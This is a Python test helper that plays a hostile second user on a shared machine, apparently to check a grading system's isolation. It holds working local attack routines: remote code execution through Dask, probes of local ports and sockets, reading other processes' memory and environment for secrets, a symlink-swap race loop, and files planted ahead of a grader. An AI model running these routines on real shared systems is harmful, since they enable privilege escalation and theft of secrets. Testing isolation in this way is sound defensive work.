"""What another user of the machine tries, as a program of that user's: prints what it got, as JSON.

Run as `local_user.py ATTACK JSON`: the JSON holds the arguments of the attack.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import socket
import ssl
import sys
from collections.abc import Callable, Iterator
from http.client import HTTPConnection, HTTPException
from pathlib import Path
from typing import Any


def by_dask(given: list[int]) -> Iterator[str]:
    """Run code on a scheduler or a worker by every way of Dask's: without TLS, with a certificate of its own."""
    from distributed import Client
    from distributed.core import rpc
    from distributed.security import Security

    own = Security.temporary()
    for port in given:
        for address, security in ((f"tcp://127.0.0.1:{port}", None), (f"tls://127.0.0.1:{port}", own)):
            with (
                contextlib.suppress(Exception),
                Client(address, security=security, timeout=3) as client,
            ):
                yield f"{address}: scheduler of user {client.run_on_scheduler(os.getuid)}"
                yield f"{address}: worker of user {client.submit(os.getuid).result(timeout=10)}"
            with contextlib.suppress(Exception):
                import asyncio

                async def ask(address: str = address, security: Any = security) -> Any:
                    arguments = security.get_connection_args("worker") if security else {}
                    async with rpc(address, connection_args=arguments, timeout=3) as remote:
                        return await asyncio.wait_for(remote.identity(), 5)

                yield f"{address}: {str(asyncio.run(ask()))[:80]}"


def by_hand(given: list[int]) -> Iterator[str]:
    """Get a single byte out of a port: by silence, by HTTP, by TLS without a certificate."""
    for port in given:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=2) as plain:
            plain.settimeout(2)
            if said := plain.recv(1000):
                yield f"{port}: {said!r}"
        with contextlib.suppress(OSError, HTTPException):
            connection = HTTPConnection("127.0.0.1", port, timeout=2)
            connection.request("GET", "/")
            yield f"{port}: HTTP {connection.getresponse().status}"
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        with (
            contextlib.suppress(OSError),
            socket.create_connection(("127.0.0.1", port), timeout=2) as plain,
            context.wrap_socket(plain) as talking,
        ):
            talking.settimeout(2)
            if said := talking.recv(1000):
                yield f"{port}: {said!r}"


def by_sockets(inodes: list[int]) -> Iterator[str]:
    """Connect to local sockets by the names that the kernel tells to everybody, abstract ones too."""
    for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
        words = line.split(maxsplit=7)
        name = words[7] if len(words) > 7 else ""
        if not name or int(words[6]) not in inodes:
            continue
        address = "\0" + name[1:] if name.startswith("@") else name
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
            with contextlib.suppress(OSError, ValueError), socket.socket(socket.AF_UNIX, kind) as stranger:
                stranger.settimeout(2)
                stranger.connect(address)
                yield name


def readable(tops: list[str]) -> Iterator[str]:
    """Files that it can read, and folders that it can list, below `tops`."""
    for top in tops:
        for folder, _, files in os.walk(top):
            yield folder
            for name in files:
                path = Path(folder, name)
                with contextlib.suppress(OSError):
                    os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOFOLLOW))
                    yield str(path)
        with contextlib.suppress(OSError):  # where the top cannot be listed, by names that it may know
            for name in ("gradebook.db", "attempts.db", ".secret"):
                os.close(os.open(Path(top, name), os.O_RDONLY))
                yield str(Path(top, name))


def of_processes(given: list[int], secrets: list[str]) -> Iterator[str]:
    """What /proc tells of processes: their arguments, which anybody may read, must not hold a secret."""
    for process in given:
        for name in ("environ", "maps", "mem", "cmdline"):
            with contextlib.suppress(OSError):
                path = Path(f"/proc/{process}/{name}")
                text = path.read_bytes().decode(errors="replace")
                if name != "cmdline" or any(secret in text for secret in secrets):
                    yield f"{path}: {text[:40]}"
        with contextlib.suppress(OSError):
            yield from map(str, Path(f"/proc/{process}/fd").iterdir())


def swapping(place: str, target: str, folder: str) -> Iterator[str]:
    """Put a link to `target` and a folder of its own in turns at `place`, as fast as it can, until it is killed."""
    exchange = ctypes.CDLL(None, use_errno=True).renameat2
    Path(folder, "link").symlink_to(target)
    Path(place).mkdir()
    Path(place).chmod(0o777)
    print("ready", flush=True)
    while True:
        if exchange(-100, place.encode(), -100, f"{folder}/link".encode(), 2):  # AT_FDCWD, RENAME_EXCHANGE
            raise OSError(ctypes.get_errno(), "renameat2")
    yield ""


def planting(links: dict[str, str], folders: list[str], files: list[str]) -> Iterator[str]:
    """Make folders, links and files before the grader comes."""
    for path in folders:
        Path(path).mkdir()
        Path(path).chmod(0o777)
    for path, target in links.items():
        Path(path).symlink_to(target)
    for path in files:
        Path(path).write_text("planted")
        Path(path).chmod(0o666)
    return iter(())


ATTACKS: dict[str, Callable[..., Iterator[Any]]] = {
    each.__name__: each for each in (by_dask, by_hand, by_sockets, readable, of_processes, swapping, planting)
}

if __name__ == "__main__":
    print(json.dumps(list(ATTACKS[sys.argv[1]](**json.loads(sys.argv[2])))))
